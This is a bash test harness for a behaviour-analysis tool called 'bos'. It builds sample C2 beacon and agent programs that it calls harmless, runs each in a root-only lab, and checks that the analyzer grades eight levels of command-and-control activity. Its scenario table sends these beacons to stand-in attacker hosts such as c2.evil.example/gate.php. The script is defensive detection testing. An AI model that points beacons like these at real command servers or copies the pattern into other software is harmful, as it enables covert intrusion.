#!/bin/bash
# Run the scenario corpus: one harmless sample per progress level, each observed in the lab
# by the real `bos observe` under its profile, then graded by `bos analyze`. Prints expected
# vs graded level for each, with the evidence summary. Needs root (the lab).
#
#   scenarios/run.sh [-b BOS] [-o OUTDIR] [LEVEL...]
#
#   -b BOS     the bos binary (default: $BOS, else the newest build/*/bos of this tree)
#   -o OUTDIR  where cases and results go (default: a new directory under ${TMPDIR:-/tmp});
#              it is left in place for inspection
#   LEVEL...   only these levels (default: 1 2 3 4 5 6 7 8)
#
# Results: OUTDIR/results.tsv (level, graded, reason, evidence kinds, caused operations,
# bursts, case dir). Exit status: 0 every level graded as expected, 1 otherwise, 2 usage,
# 77 not root. Scaled-down timing for CI: the operator's quiet gap (GAP, default 6 s) and
# the grading gap (ANALYZE_GAP, default 3 s) replace the real-world 120 s default.
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
BOS_BIN=${BOS:-}
OUT=""
GAP=${GAP:-6}
ANALYZE_GAP=${ANALYZE_GAP:-3}

while getopts "b:o:h" opt; do
	case $opt in
	b) BOS_BIN=$OPTARG ;;
	o) OUT=$OPTARG ;;
	h) sed -n '2,15p' "$0"; exit 0 ;;
	*) exit 2 ;;
	esac
done
shift $((OPTIND - 1))
LEVELS=${*:-1 2 3 4 5 6 7 8}

if [ -z "$BOS_BIN" ]; then
	BOS_BIN=$(ls -t "$HERE"/../build/*/bos 2>/dev/null | head -1)
fi
[ -x "$BOS_BIN" ] || { echo "run.sh: no bos binary (use -b or \$BOS)" >&2; exit 2; }
[ "$(id -u)" -eq 0 ] || { echo "run.sh: the lab needs root" >&2; exit 77; }
[ -n "$OUT" ] || OUT=$(mktemp -d "${TMPDIR:-/tmp}/bos-scenarios-XXXXXX")
mkdir -p "$OUT/bin" || exit 1

# The samples are built here, plain (no sanitizers: they run as samples inside the lab).
CC=${CC:-cc}
for p in beacon local agent operator; do
	$CC -O2 -Wall -o "$OUT/bin/$p" "$HERE/src/$p.c" || { echo "run.sh: cannot build $p" >&2; exit 1; }
done
chmod 0755 "$OUT" "$OUT/bin" "$OUT/bin"/*
export BOS_SCENARIO_BIN=$OUT/bin BOS_SCENARIO_GAP=$GAP

# level | sample | profile | duration | analyze options | expected evidence kinds | args
SCEN=$(cat <<EOF
1|$HERE/level1/invoice.exe|-|5s||-|
2|$OUT/bin/local|-|8s||-|
3|$OUT/bin/beacon|level3|10s||dns|-n 3 -i 300 http://c2-nx.evil.example/gate.php
4|$OUT/bin/beacon|level4|12s||flow|-n 2 -i 300 -t 1500 http://c2-drop.evil.example/beacon http://c2-refuse.evil.example/beacon
5|$OUT/bin/beacon|level5|12s||http,proxy|-n 2 -i 300 -x 10.66.0.1:3128 -B http://c2-403.evil.example/gate.php http://c2-404.evil.example/gate.php http://c2-503.evil.example/gate.php
6|$OUT/bin/beacon|level6|10s||http|-n 3 -i 300 http://c2.evil.example/gate.php
7|$OUT/bin/agent|level7|25s||http|-i 300 -n 60 http://c2.evil.example
8|$OUT/bin/agent|level8|40s|--gap $ANALYZE_GAP|http|-i 300 -n 120 http://c2.evil.example
EOF
)

: >"$OUT/results.tsv"
bad=0
printf '%-6s %-9s %-7s %-16s %s\n' level expected graded reason evidence
while IFS='|' read -r level sample profile dur aopts kinds args; do
	case " $LEVELS " in *" $level "*) ;; *) continue ;; esac
	case_dir=$OUT/case-level$level
	rm -rf "$case_dir"
	popt=()
	[ "$profile" = "-" ] || popt=(--profile "$HERE/profiles/$profile.yaml")
	# shellcheck disable=SC2086
	"$BOS_BIN" observe "${popt[@]}" --duration "$dur" -o "$case_dir" "$sample" -- $args \
		>"$OUT/observe-level$level.out" 2>"$OUT/observe-level$level.err"
	if [ ! -f "$case_dir/manifest.json" ]; then
		printf '%-6s %-9s %-7s %-16s %s\n' "$level" "$level" "-" "observe-failed" \
			"$(tail -1 "$OUT/observe-level$level.err")"
		printf '%s\t-\tobserve_failed\t-\t0\t0\t%s\n' "$level" "$case_dir" >>"$OUT/results.tsv"
		bad=$((bad + 1))
		continue
	fi
	# shellcheck disable=SC2086
	"$BOS_BIN" analyze -q $aopts "$case_dir" >"$OUT/analyze-level$level.out" 2>&1
	row=$(/usr/bin/python3 - "$case_dir/analysis.json" <<'PY'
import json, sys
try:
    a = json.load(open(sys.argv[1]))
except Exception as e:
    print("-\tno_analysis\t-\t0\t0"); sys.exit()
kinds = set()
for c in a["c2"]:
    if c["level"] == a["level"]:
        kinds.update(c["evidence_kinds"])
ops = a["operations"]
print("%d\t%s\t%s\t%d\t%d" % (a["level"], a["reason"], ",".join(sorted(kinds)) or "-",
                              ops["caused"], ops["bursts"]))
PY
)
	IFS=$'\t' read -r got reason gkinds caused bursts <<<"$row"
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$level" "$got" "$reason" "$gkinds" "$caused" "$bursts" \
		"$case_dir" >>"$OUT/results.tsv"
	ok=1
	[ "$got" = "$level" ] || ok=0
	if [ "$kinds" != "-" ]; then
		for k in ${kinds//,/ }; do
			case ",$gkinds," in *",$k,"*) ;; *) ok=0 ;; esac
		done
	fi
	mark=""
	[ $ok -eq 1 ] || { mark="  <-- MISMATCH"; bad=$((bad + 1)); }
	printf '%-6s %-9s %-7s %-16s %s%s\n' "$level" "$level" "$got" "$reason" "$gkinds (ops $caused, bursts $bursts)" "$mark"
	sed -n '2,6p' "$OUT/analyze-level$level.out" | grep -v '^  caveat' | sed 's/^/         /'
done <<<"$SCEN"

echo "cases and logs: $OUT"
[ $bad -eq 0 ]
